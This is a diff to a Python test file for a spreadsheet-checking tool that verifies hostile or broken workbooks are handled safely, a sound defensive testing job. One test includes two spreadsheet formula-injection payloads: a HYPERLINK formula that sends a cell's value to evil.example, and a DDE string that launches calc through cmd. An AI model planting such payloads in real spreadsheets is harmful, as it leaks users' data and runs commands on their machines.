@@ -1,12 +1,13 @@
 """Broken and hostile input (issue 8): every file read correctly or reported clearly, the batch
 goes on, every input accounted for, nothing injected into what xltools writes, nothing written
 outside OUTDIR, no traceback. The corpus is tests/hostile_corpus.py."""
+
 from __future__ import annotations
 
 import hashlib
 import json
-import re
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -14,17 +15,22 @@ import time
 from pathlib import Path
 
 import pytest
+from hostile_corpus import CASES, SKIPPED, SUPERSEDED, available, build_corpus
 from openpyxl import load_workbook
 
-from hostile_corpus import CASES, SKIPPED, SUPERSEDED, available, build_corpus
+from xltools import UnreadableError
 from xltools.batch import Limits, check_paths, collect_inputs
 from xltools.consolidate import ANNOTATED_DIR, RESULTS_NAME, SUMMARY_NAME, consolidate
 from xltools.pipeline import check_file
-from xltools.reader.sniff import Limits as SniffLimits, sniff
+from xltools.reader.sniff import Limits as SniffLimits
+from xltools.reader.sniff import sniff
 from xltools.template import build_template
-from xltools import UnreadableError
 
-CLI = [sys.executable, "-m", "xltools"]      # the entry point users run (a Ctrl-C while loading exits 130)
+CLI = [
+    sys.executable,
+    "-m",
+    "xltools",
+]  # the entry point users run (a Ctrl-C while loading exits 130)
 AVAILABLE = [c for c in CASES if all(available(n) for n in c.needs)]
 BY_KIND = {c.kind: c for c in CASES}
 
@@ -34,8 +40,11 @@ def _run(args: list[str], **kw) -> subprocess.CompletedProcess:
 
 
 def _snapshot(root: Path) -> dict[str, str]:
-    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
-            for p in sorted(root.rglob("*")) if p.is_file()}
+    return {
+        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(root.rglob("*"))
+        if p.is_file()
+    }
 
 
 @pytest.fixture(scope="session")
@@ -61,6 +70,7 @@ def test_corpus_is_large_enough():
 
 # --- check: library ---------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("case", AVAILABLE, ids=lambda c: c.kind)
 def test_check_status_rule_message(case, corpus, checked):
     root, built = corpus
@@ -80,7 +90,9 @@ def test_check_status_rule_message(case, corpus, checked):
             if case.fragment:
                 assert any(case.fragment in f.message for f in hits), [f.message for f in hits]
         for f in r.findings:
-            assert f.message and any("\u4e00" <= ch <= "\u9fff" for ch in f.message)   # Chinese, never empty
+            assert f.message and any(
+                "\u4e00" <= ch <= "\u9fff" for ch in f.message
+            )  # Chinese, never empty
             assert "Traceback" not in f.message and "内部错误" not in f.message
         if case.status == "unreadable":
             assert not r.values
@@ -88,18 +100,34 @@ def test_check_status_rule_message(case, corpus, checked):
             assert r.form in ("2021", "2019")
 
 
-@pytest.mark.parametrize("case", [c for c in AVAILABLE if c.status != SKIPPED and not c.isolate_only], ids=lambda c: c.kind)
+@pytest.mark.parametrize(
+    "case",
+    [c for c in AVAILABLE if c.status != SKIPPED and not c.isolate_only],
+    ids=lambda c: c.kind,
+)
 def test_check_in_process_agrees(case, corpus, checked):
     """check_file in this process (no isolation) raises nothing and agrees with the workers."""
     _, built = corpus
     for p in built[case.kind]:
         r = check_file(p)
-        assert (r.status, [f.rule for f in r.findings]) == (checked[p].status, [f.rule for f in checked[p].findings])
+        assert (r.status, [f.rule for f in r.findings]) == (
+            checked[p].status,
+            [f.rule for f in checked[p].findings],
+        )
 
 
 def test_values_of_files_saved_by_libreoffice_are_read(corpus, checked):
     _, built = corpus
-    kinds = [k for k in ("xls-libreoffice", "ods-libreoffice", "xlsx-resaved-libreoffice", "xls-named-xlsx") if k in built]
+    kinds = [
+        k
+        for k in (
+            "xls-libreoffice",
+            "ods-libreoffice",
+            "xlsx-resaved-libreoffice",
+            "xls-named-xlsx",
+        )
+        if k in built
+    ]
     if not kinds:
         pytest.skip("LibreOffice is not installed")
     plain = checked[built["max-dimension"][0]].values
@@ -119,6 +147,7 @@ def test_nothing_the_file_contains_leaks_into_messages(corpus, checked):
 
 # --- check: command line ------------------------------------------------------------------------
 
+
 def test_cli_check_whole_corpus(corpus, checked, tmp_path):
     root, built = corpus
     before = _snapshot(root)
@@ -136,7 +165,7 @@ def test_cli_check_whole_corpus(corpus, checked, tmp_path):
                 assert by_file[p]["status"] == c.status, c.kind
                 if c.rule:
                     assert any(f["rule"] == c.rule for f in by_file[p]["findings"]), c.kind
-    assert _snapshot(root) == before                       # inputs never modified
+    assert _snapshot(root) == before  # inputs never modified
     _assert_annotated_copies_inert(ann, [p for c in AVAILABLE for p in built[c.kind]])
 
 
@@ -152,37 +181,56 @@ def test_cli_check_single_files_exit_codes(corpus):
 
 # --- consolidate ---------------------------------------------------------------------------------
 
+
 def _template_formulas() -> set[tuple[str, str]]:
     import tempfile
+
     out = set()
     with tempfile.TemporaryDirectory() as tmp:
         for form in ("2021", "2019"):
             wb = load_workbook(build_template(Path(tmp) / f"{form}.xlsx", form))
-            out |= {(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"}
+            out |= {
+                (ws.title, c.coordinate)
+                for ws in wb.worksheets
+                for row in ws.iter_rows()
+                for c in row
+                if c.data_type == "f"
+            }
     return out
 
 
 def _formula_cells(path: Path) -> set[tuple[str, str]]:
     wb = load_workbook(path)
-    return {(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"}
+    return {
+        (ws.title, c.coordinate)
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    }
 
 
 def _assert_annotated_copies_inert(folder: Path, inputs: list[Path]) -> None:
     """Annotated copies: no formula in 校验结果; elsewhere only formulas the input itself had."""
     from xltools.annotate import annotated_name
+
     copies = sorted(folder.iterdir())
     assert copies
     source = {annotated_name(p, folder).name: p for p in inputs}
     for copy in copies:
         assert copy.suffix == ".xlsx" and copy.parent == folder
-        assert not copy.name.startswith(("=", "+", "-", "@")) and "\\" not in copy.name and ".." not in copy.name
+        assert (
+            not copy.name.startswith(("=", "+", "-", "@"))
+            and "\\" not in copy.name
+            and ".." not in copy.name
+        )
         wb = load_workbook(copy)
         results = wb["校验结果"]
         assert all(c.data_type != "f" for row in results.iter_rows() for c in row), copy
         src = source[copy.name]
         try:
             own = _formula_cells(src)
-        except Exception:          # .xls/.ods: the copy is the template refilled
+        except Exception:  # .xls/.ods: the copy is the template refilled
             own = _template_formulas()
         extra = {x for x in _formula_cells(copy) if x not in own and x[0] != "校验结果"}
         assert not extra, (copy, extra)
@@ -242,17 +290,22 @@ def test_consolidate_writes_only_inside_outdir_and_no_live_formulas(consolidated
     names = {c.value for c in wb["报送情况"]["B"] if isinstance(c.value, str)}
     assert '=HYPERLINK("http://evil.example/?"&A1,"点击")' in names
     assert "+1+cmd|' /C calc'!A0" in names
-    _assert_annotated_copies_inert(outdir / ANNOTATED_DIR, [p for c in AVAILABLE for p in built[c.kind]])
+    _assert_annotated_copies_inert(
+        outdir / ANNOTATED_DIR, [p for c in AVAILABLE for p in built[c.kind]]
+    )
 
 
 def test_consolidate_library_agrees_with_cli(consolidated, tmp_path):
     root, built, outdir, *_ = consolidated
     result = consolidate([root], tmp_path / "out", jobs=2, year=2022, annotate=False)
     doc = json.loads((outdir / RESULTS_NAME).read_text(encoding="utf-8"))
-    assert sorted((e.file, e.status) for e in result.entries) == sorted((e["file"], e["status"]) for e in doc["entries"])
+    assert sorted((e.file, e.status) for e in result.entries) == sorted(
+        (e["file"], e["status"]) for e in doc["entries"]
+    )
 
 
 # --- limits on what one file may cost --------------------------------------------------------------
+
 
 def test_limits_give_clear_messages(corpus):
     _, built = corpus
@@ -277,7 +330,7 @@ def test_limits_give_clear_messages(corpus):
 
 def test_time_limit_marks_the_file_and_the_batch_goes_on(corpus, tmp_path):
     _, built = corpus
-    fifo = tmp_path / "pipe.xlsx"          # opening it blocks forever: a reader that hangs
+    fifo = tmp_path / "pipe.xlsx"  # opening it blocks forever: a reader that hangs
     os.mkfifo(fifo)
     good = built["max-dimension"][0]
     start = time.monotonic()
@@ -291,8 +344,10 @@ def test_time_limit_marks_the_file_and_the_batch_goes_on(corpus, tmp_path):
 
 def test_memory_limit_marks_the_file(corpus):
     _, built = corpus
-    big = built["cell-a1048576"][0]        # a million-row range: about 400 MB in the reader
-    reports = check_paths([big, built["max-dimension"][0]], jobs=1, limits=Limits(memory_mb=300, timeout=10))
+    big = built["cell-a1048576"][0]  # a million-row range: about 400 MB in the reader
+    reports = check_paths(
+        [big, built["max-dimension"][0]], jobs=1, limits=Limits(memory_mb=300, timeout=10)
+    )
     assert reports[0].unreadable
     # a MemoryError, or the native reader aborting (or hanging after a failed allocation)
     assert any(w in reports[0].findings[0].message for w in ("内存", "意外退出", "秒仍未完成"))
@@ -301,7 +356,10 @@ def test_memory_limit_marks_the_file(corpus):
 
 # --- an interrupted run leaves nothing that looks complete -------------------------------------------
 
-@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL], ids=lambda s: s.name)
+
+@pytest.mark.parametrize(
+    "sig", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL], ids=lambda s: s.name
+)
 def test_interrupted_consolidate(sig, corpus, tmp_path):
     root, built = corpus
     inbox = tmp_path / "inbox"
@@ -311,19 +369,27 @@ def test_interrupted_consolidate(sig, corpus, tmp_path):
         (inbox / f"单位{i:03d}.xlsx").write_bytes(src.read_bytes())
     outdir = tmp_path / "out"
     for delay in (0.3, 0.8, 1.5, 2.5):
-        proc = subprocess.Popen(CLI + ["consolidate", str(inbox), "-o", str(outdir), "-j", "2", "--force"],
-                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        proc = subprocess.Popen(
+            CLI + ["consolidate", str(inbox), "-o", str(outdir), "-j", "2", "--force"],
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
         # the delays count from the moment the run has its workers, not from the interpreter's
         # start: on a loaded machine a signal at 0.3 s can reach Python before it has initialised
         deadline = time.monotonic() + 60
-        while len(_processes_mentioning(str(inbox))) < 2 and proc.poll() is None and time.monotonic() < deadline:
+        while (
+            len(_processes_mentioning(str(inbox))) < 2
+            and proc.poll() is None
+            and time.monotonic() < deadline
+        ):
             time.sleep(0.05)
         time.sleep(delay)
         proc.send_signal(sig)
         _, err = proc.communicate(timeout=120)
         results = outdir / RESULTS_NAME
         if results.exists():
-            doc = json.loads(results.read_text(encoding="utf-8"))        # complete and parseable
+            doc = json.loads(results.read_text(encoding="utf-8"))  # complete and parseable
             assert len([e for e in doc["entries"] if e["file"]]) == 120
             assert (outdir / SUMMARY_NAME).exists()
         else:
@@ -331,9 +397,17 @@ def test_interrupted_consolidate(sig, corpus, tmp_path):
         # on a loaded machine the signal may land while Python is still starting or importing
         # modules (every frame a module body or the import machinery): no command runs yet
         frames = re.findall(r'File "[^"]*", line \d+, in (\S+)', err)
-        before_start = err.startswith("Fatal Python error") or bool(frames) and all(
-            f in ("<module>", "exec_module") or f.startswith("_") for f in frames)
-        assert before_start or "Traceback" not in err or sig == signal.SIGINT and "KeyboardInterrupt" not in err.splitlines()[-1:]
+        before_start = (
+            err.startswith("Fatal Python error")
+            or bool(frames)
+            and all(f in ("<module>", "exec_module") or f.startswith("_") for f in frames)
+        )
+        assert (
+            before_start
+            or "Traceback" not in err
+            or sig == signal.SIGINT
+            and "KeyboardInterrupt" not in err.splitlines()[-1:]
+        )
         # no worker outlives its run (a killed parent sends its workers no EOF)
         deadline = time.monotonic() + 10
         while _processes_mentioning(str(inbox)) and time.monotonic() < deadline:
